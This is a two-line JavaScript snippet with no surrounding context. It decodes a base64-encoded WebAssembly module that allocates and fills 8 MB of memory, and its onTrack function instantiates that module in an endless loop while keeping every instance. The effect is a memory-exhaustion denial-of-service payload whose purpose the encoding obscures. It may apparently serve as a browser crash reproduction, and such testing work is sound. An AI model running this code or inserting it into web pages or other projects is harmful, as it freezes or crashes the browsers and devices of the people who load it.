const bytes = Uint8Array.from(atob("AGFzbQEAAAABBAFgAAADAgEABQYBA4ABgAEHAQAIAQAKEAEOAEEAQQFBgICABPwLAAs="), (c) => c.charCodeAt(0));
async function onTrack() { const all = []; for (;;) all.push(await WebAssembly.instantiate(bytes)); }
